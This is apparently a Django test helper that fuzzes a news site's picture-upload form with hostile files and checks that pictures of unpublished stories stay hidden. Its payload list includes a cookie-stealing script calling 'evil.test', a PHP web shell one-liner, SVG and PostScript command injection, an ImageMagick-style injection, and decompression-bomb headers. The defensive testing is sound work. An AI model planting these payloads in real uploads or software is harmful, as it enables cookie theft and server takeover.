"""Hostile files are uploaded, and pictures of stories that readers cannot see are asked for."""

import struct
import sys
import zlib
from collections.abc import Callable, Sequence
from datetime import timedelta
from random import Random
from typing import Any

import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client, override_settings
from PIL import Image

from articles.models import Picture, PublishedVersion, VersionKind
from articles.pictures import PictureForm
from articles.pictures.looks.make_look import make_look
from tests.factories import NOON, make_picture, make_story, make_version
from tests.pictures.samples import drawn, saved

KINDS = ("JPEG", "PNG", "GIF", "WEBP", "AVIF", "TIFF")
#: What is appended to a picture, or hidden in it, or sent in its place.
OTHERS = (
    b"<!doctype html><title>Hello there</title>",
    b"<script>fetch('//evil.test/' + document.cookie)</script>",
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    b"<?php system($_GET['command']); ?>",
    b"%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >> endobj",
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n",
    b"PK\x05\x06" + bytes(18),
    b"Rar!\x1a\x07\x01\x00" + bytes(40),
    b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00",
    b"#!/bin/sh\nid\n",
    b"push graphic-context\nfill 'url(https://127.0.0.1/\"|id\")'\npop graphic-context",
)
#: Those that a picture can be beside being a picture; others are nothing without being first.
BESIDE = OTHERS[:5] + OTHERS[6:8]


def _in_place(random: Random) -> bytes:
    return random.choice(OTHERS) + random.randbytes(random.randrange(200))


def _appended(random: Random) -> bytes:
    return saved(drawn(), random.choice(KINDS)) + random.choice(BESIDE)


def _commented(random: Random) -> bytes:
    # No archive is found by its beginning, so it has to be at the end.
    return saved(drawn(), "JPEG", comment=random.choice(BESIDE[:5] + BESIDE[6:]))


def _cut_off(random: Random) -> bytes:
    noise = Image.effect_noise((random.randrange(150, 300), 200), 60)
    data = saved(noise, random.choice(KINDS))
    return data[: random.randrange(len(data) * 9 // 10)]


def _with_another_head(random: Random) -> bytes:
    """Return a picture whose first bytes are those of something else."""
    return random.choice(OTHERS)[:12].ljust(12) + saved(drawn(), random.choice(KINDS))[12:]


def _bomb(random: Random) -> bytes:
    """Return a PNG, a GIF or a JPEG that says that it is far larger than it is."""
    width, height = random.randrange(9_000, 65_000), random.randrange(9_000, 65_000)
    kind = random.choice(("PNG", "GIF", "JPEG"))
    data = bytearray(saved(drawn(), kind))
    if kind == "GIF":
        data[6:10] = struct.pack("<2H", width, height)
        at = data.index(b"\x2c", 13 + 3 * 2 ** ((data[10] & 7) + 1)) + 5
        data[at : at + 4] = struct.pack("<2H", width, height)
    elif kind == "JPEG":
        at = data.index(b"\xff\xc0") + 5
        data[at : at + 4] = struct.pack(">2H", height, width)
    else:
        data[16:24] = struct.pack(">2I", width, height)
        data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


HOSTILE: Sequence[Callable[[Random], bytes]] = (
    *(_in_place, _appended, _commented, _cut_off, _with_another_head, _bomb),
)
NAMES = ("a.jpg", "a.svg", "a.php.jpg", "../../a.jpg", "a.jpg\x00.svg", "a.html", "ä" * 300)
TYPES = ("image/jpeg", "image/svg+xml", "text/html", "application/x-php", "")


def send_hostile_uploads(count: int) -> tuple[int, int]:
    """Return how many were tried, and how many became a picture."""
    random = Random(15)  # noqa: S311 - the same trials each time
    let_in = 0
    for number in range(count):
        make = HOSTILE[number % len(HOSTILE)]
        upload = SimpleUploadedFile(
            random.choice(NAMES), data := make(random), random.choice(TYPES)
        )
        form = PictureForm({"alt": "A"}, {"image": upload})
        if form.is_valid():
            let_in += 1
            sys.stderr.write(f"let in: {make.__name__} {data[:60]!r} … {data[-60:]!r}\n")
        elif not form.errors.get("image"):
            raise AssertionError(form.errors)
    return count, let_in


def look_for_pictures(least: int) -> tuple[int, int]:
    """Return how often pictures were asked for, and how often they came, or not, wrongly.

    Stories come, change and go at random hours, with pictures that lead them or stand in them.
    """
    random = Random(15)  # noqa: S311 - the same trials each time
    asked = wrong = 0
    client = Client()
    with override_settings(ALLOWED_HOSTS=["testserver"], SECURE_SSL_REDIRECT=False):
        while asked < least:
            with transaction.atomic():
                pictures = [make_picture() for _ in range(3)]
                make_look(random.choice(pictures))
                made = [one for _ in range(4) for one in _versions(random, pictures)]
                for hour in random.sample(range(8), 5):
                    with time_machine.travel(NOON + timedelta(hours=hour), tick=False):
                        answers = [_is_right(client, one, made, hour) for one in pictures]
                    asked += len(answers)
                    wrong += answers.count(False)
                transaction.set_rollback(True)
    return asked, wrong


#: A version, its hours, and the pictures in it.
Made = tuple[PublishedVersion, int, int | None, set[int]]


def _versions(random: Random, pictures: Sequence[Picture]) -> list[Made]:
    story = make_story()
    starts = sorted(random.sample(range(7), random.randint(1, 3)))
    ends = [*starts[1:], random.choice([None, starts[-1] + 1])]
    return [
        _version(random, story, pictures, start, end)
        for start, end in zip(starts, ends, strict=True)
    ]


def _version(
    random: Random, story: Any, pictures: Sequence[Picture], start: int, end: int | None
) -> Made:
    lead, inside = (random.choice([*pictures, None, None]) for _ in range(2))
    kind = random.choice([VersionKind.STORY, VersionKind.STORY, VersionKind.WITHDRAWAL])
    blocks = []
    if inside:
        key = f"figure{inside.pk:03d}"
        story.figures.get_or_create(key=key, defaults={"picture": inside})
        blocks = [{"kind": "Figure", "key": key, "picture": inside.pk}]
    version = make_version(
        story,
        kind=kind,
        picture=lead,
        content={"picture": None, "blocks": blocks},
        visible_from=NOON + timedelta(hours=start),
        visible_until=None if end is None else NOON + timedelta(hours=end),
    )
    shown = {one.pk for one in (lead, inside) if one} if kind == VersionKind.STORY else set()
    return version, start, end, shown


def _is_right(client: Client, picture: Picture, made: Sequence[Made], hour: int) -> bool:
    """Return whether readers get the files of the picture if they see it, and else none."""
    seen = any(
        picture.pk in shown and start <= hour and (end is None or hour < end)
        for _, start, end, shown in made
    )
    for stem in picture.files.values_list("stem", flat=True):
        response = client.get(f"/media/{stem}.jpg")
        response.getvalue()
        if (response.status_code == 200) is not seen:
            sys.stderr.write(f"{stem}: {response.status_code} at {hour}, seen: {seen}\n")
            return False
    return True
